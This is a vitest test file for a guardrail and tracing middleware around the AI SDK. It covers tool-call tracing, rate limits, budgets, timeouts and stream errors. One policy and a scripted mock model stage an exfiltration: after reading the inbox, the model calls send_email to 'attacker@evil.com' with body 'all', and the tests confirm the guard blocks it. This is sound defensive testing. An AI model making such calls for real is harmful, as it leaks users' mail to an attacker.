import type { LanguageModelV4StreamPart } from '@ai-sdk/provider';
import {
  BudgetExceededError,
  ConfigurationError,
  createBudget,
  createMemoryCostLedger,
  createMemoryRateLimitStore,
  createTracer,
  GuardTimeoutError,
  PolicyViolationError,
  parsePolicy,
  type Tracer,
  validateBlocks,
  withTrace,
} from '@tracewarden/core';
import { comparableTrace, delayedStore } from '@tracewarden/core/testing';
import {
  APICallError,
  generateText,
  isStepCount,
  simulateReadableStream,
  streamText,
  tool,
  wrapLanguageModel,
} from 'ai';
import { MockLanguageModelV4 } from 'ai/test';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { scriptedModel, streamParts, usage } from '../__fixtures__/mock-model.js';
import { guardTools, tracewardenMiddleware } from '../index.js';

const sendPolicy = parsePolicy(`
raise "mail to attacker@evil.com is exfiltration" if:
    (call: ToolCall)
    call is tool:send_email
    call.function.arguments.to == "attacker@evil.com"
`);

function expectSound(tracer: Tracer): void {
  expect(validateBlocks(tracer.blocks()).errors).toEqual([]);
  expect(comparableTrace(tracer.stitched()).orphans).toBe(0);
}

function assistants(tracer: Tracer) {
  return tracer
    .blocks()
    .filter((block) => block.sub_type === 'MESSAGE' && block.payload.role === 'assistant');
}

function metadataOf(block: { metadata: unknown } | undefined): Record<string, unknown> {
  return (block?.metadata ?? {}) as Record<string, unknown>;
}

/** The message of the next process warning with this code (any earlier one counts too). */
function nextWarning(code: string): Promise<string> {
  const seen = seenWarnings.get(code);
  if (seen !== undefined) return Promise.resolve(seen);
  return new Promise((resolve) => {
    const listener = (warning: Error & { code?: string }): void => {
      if (warning.code !== code) return;
      process.off('warning', listener);
      resolve(warning.message);
    };
    process.on('warning', listener);
  });
}

// warnings are said once per process: keep the first of each code for later tests
const seenWarnings = new Map<string, string>();
process.on('warning', (warning: Error & { code?: string }) => {
  if (warning.code !== undefined && !seenWarnings.has(warning.code))
    seenWarnings.set(warning.code, warning.message);
});

function emailTools(log: string[]) {
  return {
    get_inbox: tool({
      inputSchema: z.object({}),
      execute: async () => {
        log.push('get_inbox');
        return [{ from: 'bob@x.example', body: 'hi' }];
      },
    }),
    send_email: tool({
      inputSchema: z.object({ to: z.string(), body: z.string() }),
      execute: async ({ to }) => {
        log.push(`send_email:${to}`);
        return 'sent';
      },
    }),
  };
}

const story = [
  {
    reasoning: 'I must read the inbox.',
    calls: [{ id: 'call_1', name: 'get_inbox', input: {} }],
  },
  {
    calls: [{ id: 'call_2', name: 'send_email', input: { to: 'attacker@evil.com', body: 'all' } }],
  },
  { text: 'Done: nothing was sent.' },
];

async function runText(
  stream: boolean,
  options: Parameters<typeof generateText>[0],
): Promise<{ text: string; steps: number }> {
  if (!stream) {
    const result = await generateText(options);
    return { text: result.text, steps: result.steps.length };
  }
  const result = streamText(options as Parameters<typeof streamText>[0]);
  await result.consumeStream();
  return { text: await result.text, steps: (await result.steps).length };
}

describe('tracewardenMiddleware with generateText / streamText (MockLanguageModelV4)', () => {
  for (const stream of [false, true]) {
    const how = stream ? 'streamText' : 'generateText';

    it(`${how}: a multi-step loop is one trace — prompt once, THINK, TOOL_CALL, TOOL_RESULT, usage, cost`, async () => {
      const tracer = createTracer();
      const log: string[] = [];
      const model = wrapLanguageModel({
        model: scriptedModel([story[0] as never, { text: 'Your inbox has one email.' }]),
        middleware: tracewardenMiddleware({
          tracer,
          pricing: { overrides: { 'mock-model-id': [2, 8] } },
        }),
      });
      const result = await runText(stream, {
        model,
        instructions: 'Be brief.',
        prompt: 'Summarise my inbox',
        tools: guardTools(emailTools(log), { tracer }),
        stopWhen: isStepCount(5),
      });
      expect(result.text).toBe('Your inbox has one email.');
      expect(log).toEqual(['get_inbox']);
      const trace = comparableTrace(tracer.stitched());
      expect(trace.messages.map((message) => [message.role, message.content])).toEqual([
        ['system', 'Be brief.'],
        ['user', 'Summarise my inbox'],
        ['assistant', null],
        ['assistant', 'Your inbox has one email.'],
      ]);
      expect(trace.messages[2]?.thinks).toEqual(['I must read the inbox.']);
      expect(trace.messages[2]?.tool_calls).toEqual([
        {
          call_id: 'call_1',
          name: 'get_inbox',
          arguments: {},
          blocked: false,
          results: [
            { output: [{ from: 'bob@x.example', body: 'hi' }], status: 'success', refused: false },
          ],
        },
      ]);
      const first = metadataOf(assistants(tracer)[0]);
      expect(first).toMatchObject({
        provider: 'mock-provider',
        model: 'mock-model-id',
        status: 'success',
        // one vocabulary in every adapter, the provider's own value beside it
        finish_reason: 'tool_calls',
        provider_finish_reason: 'tool_calls',
      });
      expect(first.usage).toMatchObject({ input_tokens: 10, output_tokens: 5 });
      // 6 uncached input tokens at $2/M + 4 cached + 5 output at $8/M
      expect((first.cost as { cost_usd: number }).cost_usd).toBeGreaterThan(0);
      if (stream) expect(typeof first.time_to_first_token_ms).toBe('number');
      expectSound(tracer);
    });
  }

  it('parallel tool calls: both TOOL_CALLs under one MESSAGE, each TOOL_RESULT under its own call', async () => {
    const tracer = createTracer();
    const log: string[] = [];
    const model = wrapLanguageModel({
      model: scriptedModel([
        {
          calls: [
            { id: 'call_a', name: 'get_inbox', input: {} },
            { id: 'call_b', name: 'send_email', input: { to: 'maria@acme.example', body: 'ok' } },
          ],
        },
        { text: 'Both done.' },
      ]),
      middleware: tracewardenMiddleware({ tracer }),
    });
    // results come back in the next prompt: no guardTools here
    await generateText({ model, prompt: 'go', tools: emailTools(log), stopWhen: isStepCount(3) });
    expect(log.sort()).toEqual(['get_inbox', 'send_email:maria@acme.example']);
    const calls = comparableTrace(tracer.stitched()).messages[1]?.tool_calls ?? [];
    expect(
      calls.map((call) => [call.call_id, call.results[0]?.output, call.results[0]?.status]),
    ).toEqual([
      ['call_a', [{ from: 'bob@x.example', body: 'hi' }], 'success'],
      ['call_b', 'sent', 'success'],
    ]);
    expectSound(tracer);
  });

  it('a tool that throws: the AI SDK reports tool-error, the loop goes on, the TOOL_RESULT is a failure', async () => {
    const tracer = createTracer();
    const model = wrapLanguageModel({
      model: scriptedModel([
        { calls: [{ id: 'call_1', name: 'get_inbox', input: {} }] },
        { text: 'The inbox is unavailable.' },
      ]),
      middleware: tracewardenMiddleware({ tracer }),
    });
    const tools = guardTools(
      {
        get_inbox: tool({
          inputSchema: z.object({}),
          execute: async (): Promise<string> => {
            throw new Error('mail server down');
          },
        }),
      },
      { tracer },
    );
    const result = await generateText({ model, prompt: 'go', tools, stopWhen: isStepCount(3) });
    expect(result.steps[0]?.content.some((part) => part.type === 'tool-error')).toBe(true);
    expect(result.text).toBe('The inbox is unavailable.');
    const call = comparableTrace(tracer.stitched()).messages[1]?.tool_calls[0];
    // as the model reads it: the SDK's error-text is the error's toString()
    expect(call?.results).toEqual([
      { output: 'Error: mail server down', status: 'failure', refused: false },
    ]);
    expectSound(tracer);
  });

  it("a guard's refusal surfaces as the AI SDK surfaces tool errors (tool-error, loop goes on)", async () => {
    const tracer = createTracer();
    const log: string[] = [];
    const model = wrapLanguageModel({
      model: scriptedModel([
        {
          calls: [
            { id: 'call_1', name: 'get_inbox', input: {} },
            { id: 'call_2', name: 'get_inbox', input: {} },
          ],
        },
        { text: 'Read once.' },
      ]),
      middleware: tracewardenMiddleware({ tracer }),
    });
    const tools = guardTools(emailTools(log), {
      tracer,
      rateLimit: { callsPerHour: 1, burst: 1, sharedKey: `inbox-${Math.random()}` },
    });
    const result = await generateText({
      model,
      prompt: 'go',
      tools,
      stopWhen: isStepCount(3),
      toolCallConcurrency: 1,
    });
    expect(log).toEqual(['get_inbox']);
    expect(result.text).toBe('Read once.');
    const errors = result.steps[0]?.content.filter((part) => part.type === 'tool-error') ?? [];
    expect(errors).toHaveLength(1);
    const statuses = comparableTrace(tracer.stitched()).messages[1]?.tool_calls.map(
      (call) => call.results[0]?.status,
    );
    expect(statuses).toEqual(['success', 'rate_limited']);
    expectSound(tracer);
  });

  for (const stream of [false, true]) {
    const how = stream ? 'streamText' : 'generateText';
    it(`${how}, onPolicyViolation 'throw': the call rejects with PolicyViolationError and no tool runs`, async () => {
      const tracer = createTracer();
      const log: string[] = [];
      const model = wrapLanguageModel({
        model: scriptedModel(story),
        middleware: tracewardenMiddleware({ tracer, policy: sendPolicy }),
      });
      await expect(
        runText(stream, {
          model,
          prompt: 'go',
          tools: guardTools(emailTools(log), { tracer }),
          stopWhen: isStepCount(5),
        }),
      ).rejects.toBeInstanceOf(PolicyViolationError);
      expect(log).toEqual(['get_inbox']);
      const send = tracer.findToolCall('call_2');
      expect(metadataOf(send)).toMatchObject({ policy: 'block' });
      expect((metadataOf(send).violations as unknown[]).length).toBe(1);
      expectSound(tracer);
    });

    it(`${how}, 'refuse' with guardTools: the blocked tool never runs, the model reads the refusal, the loop goes on`, async () => {
      const tracer = createTracer();
      const log: string[] = [];
      const base = scriptedModel(story);
      const model = wrapLanguageModel({
        model: base,
        middleware: tracewardenMiddleware({
          tracer,
          policy: sendPolicy,
          onPolicyViolation: 'refuse',
        }),
      });
      const result = await runText(stream, {
        model,
        prompt: 'go',
        tools: guardTools(emailTools(log), { tracer }),
        stopWhen: isStepCount(5),
      });
      expect(log).toEqual(['get_inbox']);
      expect(result).toEqual({ text: 'Done: nothing was sent.', steps: 3 });
      const calls = stream ? base.doStreamCalls : base.doGenerateCalls;
      const lastPrompt = JSON.stringify(calls.at(-1)?.prompt);
      expect(lastPrompt).toContain('blocked by policy');
      const send = comparableTrace(tracer.stitched()).messages[2]?.tool_calls[0];
      expect(send).toMatchObject({ call_id: 'call_2', blocked: true });
      expect(send?.results).toHaveLength(1);
      expect(send?.results[0]).toMatchObject({ status: 'failure', refused: true });
      expectSound(tracer);
    });

    it(`${how}, 'refuse' with plain tools: the blocked call is removed, the refusal appended, nothing runs`, async () => {
      const warned = nextWarning('TRACEWARDEN_REFUSE_ENDS_LOOP');
      const tracer = createTracer();
      const log: string[] = [];
      const model = wrapLanguageModel({
        model: scriptedModel(story),
        middleware: tracewardenMiddleware({
          tracer,
          policy: sendPolicy,
          onPolicyViolation: 'refuse',
        }),
      });
      const result = await runText(stream, {
        model,
        prompt: 'go',
        tools: emailTools(log),
        stopWhen: isStepCount(5),
      });
      expect(log).toEqual(['get_inbox']);
      expect(result.steps).toBe(2);
      expect(result.text).toContain('Tool call send_email was blocked by policy');
      expectSound(tracer);
      // the user learns (once) why the loop ended and what lets it go on
      expect(await warned).toMatch(/not wrapped by guardTools.*guardTools\(tools\)/s);
    });
  }

  it('streamText: an aborted stream records the partial output with status cancelled', async () => {
    const tracer = createTracer();
    const controller = new AbortController();
    const model = wrapLanguageModel({
      model: new MockLanguageModelV4({
        doStream: async ({ abortSignal }) => ({
          stream: new ReadableStream<LanguageModelV4StreamPart>({
            start(stream) {
              stream.enqueue({ type: 'text-start', id: 't' });
              stream.enqueue({ type: 'text-delta', id: 't', delta: 'Partial ans' });
              abortSignal?.addEventListener('abort', () =>
                stream.error(new DOMException('aborted', 'AbortError')),
              );
            },
          }),
        }),
      }),
      middleware: tracewardenMiddleware({ tracer }),
    });
    const result = streamText({ model, prompt: 'go', abortSignal: controller.signal });
    for await (const part of result.stream) if (part.type === 'text-delta') controller.abort();
    const last = assistants(tracer).at(-1);
    expect(last?.payload.content).toBe('Partial ans');
    expect(metadataOf(last).status).toBe('cancelled');
    expectSound(tracer);
  });

  it('streamText: a stream error part records the partial output as a failure', async () => {
    const tracer = createTracer();
    const model = wrapLanguageModel({
      model: new MockLanguageModelV4({
        doStream: async () => ({
          stream: simulateReadableStream<LanguageModelV4StreamPart>({
            chunks: [
              { type: 'text-start', id: 't' },
              { type: 'text-delta', id: 't', delta: 'Half' },
              { type: 'error', error: new Error('upstream overloaded') },
            ],
          }),
        }),
      }),
      middleware: tracewardenMiddleware({ tracer }),
    });
    const errors: unknown[] = [];
    const result = streamText({ model, prompt: 'go', onError: ({ error }) => errors.push(error) });
    await result.consumeStream();
    expect(errors.length).toBeGreaterThan(0);
    const last = assistants(tracer).at(-1);
    expect(last?.payload.content).toBe('Half');
    expect(metadataOf(last)).toMatchObject({ status: 'failure' });
    expect(metadataOf(last).error).toMatchObject({ message: 'upstream overloaded' });
    expectSound(tracer);
  });

  it('a provider error: generateText rejects with the very same error, the call is recorded as failed', async () => {
    const tracer = createTracer();
    const failure = new APICallError({
      message: 'Bad request',
      url: 'http://127.0.0.1/v1/chat/completions',
      requestBodyValues: {},
      statusCode: 400,
      isRetryable: false,
    });
    const model = wrapLanguageModel({
      model: new MockLanguageModelV4({
        doGenerate: async () => {
          throw failure;
        },
      }),
      middleware: tracewardenMiddleware({ tracer }),
    });
    await expect(generateText({ model, prompt: 'go', maxRetries: 0 })).rejects.toBe(failure);
    expect(metadataOf(assistants(tracer).at(-1))).toMatchObject({
      status: 'failure',
      error: { type: 'AI_APICallError' },
    });
    expectSound(tracer);
  });

  it('timeoutSeconds: a slow call is aborted, rejects with GuardTimeoutError and is recorded as timeout', async () => {
    const tracer = createTracer();
    const model = wrapLanguageModel({
      model: new MockLanguageModelV4({
        doGenerate: ({ abortSignal }) =>
          new Promise((_resolve, reject) => {
            abortSignal?.addEventListener('abort', () => reject(abortSignal.reason));
          }),
      }),
      middleware: tracewardenMiddleware({ tracer, timeoutSeconds: 0.05 }),
    });
    const error = await generateText({ model, prompt: 'go', maxRetries: 0 }).catch((e) => e);
    expect(error).toBeInstanceOf(GuardTimeoutError);
    expect(metadataOf(assistants(tracer).at(-1)).status).toBe('timeout');
    expectSound(tracer);
  });

  it('budget: the live cut-off stops a stream before the budget is passed (BUDGET_EXCEEDED)', async () => {
    const tracer = createTracer();
    const chunks: LanguageModelV4StreamPart[] = [{ type: 'text-start', id: 't' }];
    for (let i = 0; i < 200; i++)
      chunks.push({ type: 'text-delta', id: 't', delta: 'x'.repeat(400) });
    chunks.push({ type: 'text-end', id: 't' });
    chunks.push({ type: 'finish', finishReason: { unified: 'stop', raw: 'stop' }, usage });
    let cancelled = false;
    const model = wrapLanguageModel({
      model: new MockLanguageModelV4({
        doStream: async () => ({
          stream: new ReadableStream<LanguageModelV4StreamPart>({
            pull(controller) {
              const next = chunks.shift();
              if (next === undefined) controller.close();
              else controller.enqueue(next);
            },
            cancel() {
              cancelled = true;
            },
          }),
        }),
      }),
      middleware: tracewardenMiddleware({
        tracer,
        // $1 000 per million output tokens: 100 characters cost $0.025
        pricing: { overrides: { 'mock-model-id': [0, 1000] } },
        guards: { budget: { maxCostPerCall: 0.5 } },
      }),
    });
    let delivered = '';
    let failure: unknown;
    try {
      for await (const part of streamText({ model, prompt: 'go' }).stream) {
        if (part.type === 'text-delta') delivered += part.text;
        if (part.type === 'error') throw part.error;
      }
    } catch (error) {
      failure = error;
    }
    expect(failure).toBeInstanceOf(BudgetExceededError);
    expect(cancelled).toBe(true);
    expect(delivered.length).toBeGreaterThan(0);
    expect(delivered.length).toBeLessThan(200 * 400);
    const last = assistants(tracer).at(-1);
    expect(metadataOf(last).status).toBe('budget_exceeded');
    expect(
      (metadataOf(last).cost as { cost_usd: number } | undefined)?.cost_usd ?? 0,
    ).toBeLessThanOrEqual(0.5);
    expectSound(tracer);
  });

  it('a model-call guard refuses before the model is called; the refusal is recorded', async () => {
    const tracer = createTracer();
    const base = scriptedModel([{ text: 'one' }, { text: 'two' }]);
    const model = wrapLanguageModel({
      model: base,
      middleware: tracewardenMiddleware({
        tracer,
        guards: { rateLimit: { callsPerHour: 1, burst: 1, sharedKey: `model-${Math.random()}` } },
      }),
    });
    await generateText({ model, prompt: 'first' });
    const error = await generateText({ model, prompt: 'second' }).catch((e) => e);
    expect(error).toMatchObject({ code: 'RATE_LIMITED' });
    expect(base.doGenerateCalls).toHaveLength(1);
    expect(metadataOf(assistants(tracer).at(-1)).status).toBe('rate_limited');
    expectSound(tracer);
  });

  it('guards with shared stores (answers that are promises) decide before the model is called', async () => {
    const tracer = createTracer();
    const base = scriptedModel([{ text: 'one' }, { text: 'two' }, { text: 'three' }]);
    const model = wrapLanguageModel({
      model: base,
      middleware: tracewardenMiddleware({
        tracer,
        pricing: { overrides: { [base.modelId]: [1, 1] } },
        guards: {
          rateLimit: {
            callsPerHour: 2,
            burst: 2,
            store: delayedStore(createMemoryRateLimitStore()),
          },
          budget: createBudget({
            maxCallsPerSession: 5,
            costLedger: delayedStore(createMemoryCostLedger()),
          }),
        },
      }),
    });
    await generateText({ model, prompt: 'first' });
    const streamed = streamText({ model, prompt: 'second' });
    // streams are scripted apart from generate calls: the first streamed step
    expect(await streamed.text).toBe('one');
    const error = await generateText({ model, prompt: 'third' }).catch((e) => e);
    expect(error).toMatchObject({ code: 'RATE_LIMITED' });
    expect(base.doGenerateCalls).toHaveLength(1);
    expect(base.doStreamCalls).toHaveLength(1);
    expect(assistants(tracer).map((block) => metadataOf(block).status)).toEqual([
      'success',
      'success',
      'rate_limited',
    ]);
    expectSound(tracer);
  });

  it('a budget refuses a model it cannot price, naming the option that fixes it', async () => {
    const tracer = createTracer();
    const model = wrapLanguageModel({
      model: scriptedModel([{ text: 'never' }]),
      middleware: tracewardenMiddleware({ tracer, guards: { budget: { maxCostPerSession: 1 } } }),
    });
    const error = await generateText({ model, prompt: 'go' }).catch((e) => e);
    expect(error).toMatchObject({ code: 'UNKNOWN_MODEL_PRICE' });
    expect(String(error.message)).toContain('pricing: { overrides');
    expectSound(tracer);
  });

  it('without a tracer: records into the enclosing withTrace, else the middleware keeps its own', async () => {
    const ambient = createTracer();
    const model = wrapLanguageModel({
      model: scriptedModel([{ text: 'hello' }, { text: 'again' }]),
      middleware: tracewardenMiddleware(),
    });
    await withTrace(ambient, () => generateText({ model, prompt: 'hi' }));
    expect(assistants(ambient).map((block) => block.payload.content)).toEqual(['hello']);
    await generateText({ model, prompt: 'hi' });
    expect(assistants(ambient)).toHaveLength(1);
  });

  it('options are checked where they are given: a typo never silently drops a guard', () => {
    expect(() => tracewardenMiddleware({ guards: { budgets: {} } } as never)).toThrow(
      ConfigurationError,
    );
    expect(() => tracewardenMiddleware({ timeoutSeconds: '5' } as never)).toThrow(/timeoutSeconds/);
    expect(() => tracewardenMiddleware({ onPolicyViolation: 'block' } as never)).toThrow(
      /onPolicyViolation/,
    );
    expect(() => tracewardenMiddleware({ policy: 'raise "x" if: (c: ToolCall)' } as never)).toThrow(
      /parsePolicy/,
    );
  });

  it('streams are observed as they pass: the first part reaches the caller before the model ends', async () => {
    let release: () => void = () => {};
    const gate = new Promise<void>((resolve) => {
      release = resolve;
    });
    const parts = streamParts({ text: 'Hello world' });
    const model = wrapLanguageModel({
      model: new MockLanguageModelV4({
        doStream: async () => ({
          stream: new ReadableStream<LanguageModelV4StreamPart>({
            async pull(controller) {
              const next = parts.shift();
              if (next === undefined) return controller.close();
              if (next.type === 'finish') await gate;
              controller.enqueue(next);
            },
          }),
        }),
      }),
      middleware: tracewardenMiddleware({ tracer: createTracer() }),
    });
    const result = streamText({ model, prompt: 'go' });
    let firstText = '';
    for await (const part of result.stream) {
      if (part.type === 'text-delta' && firstText === '') {
        firstText = part.text;
        release();
      }
    }
    expect(firstText).toBe('Hello ');
  });
});
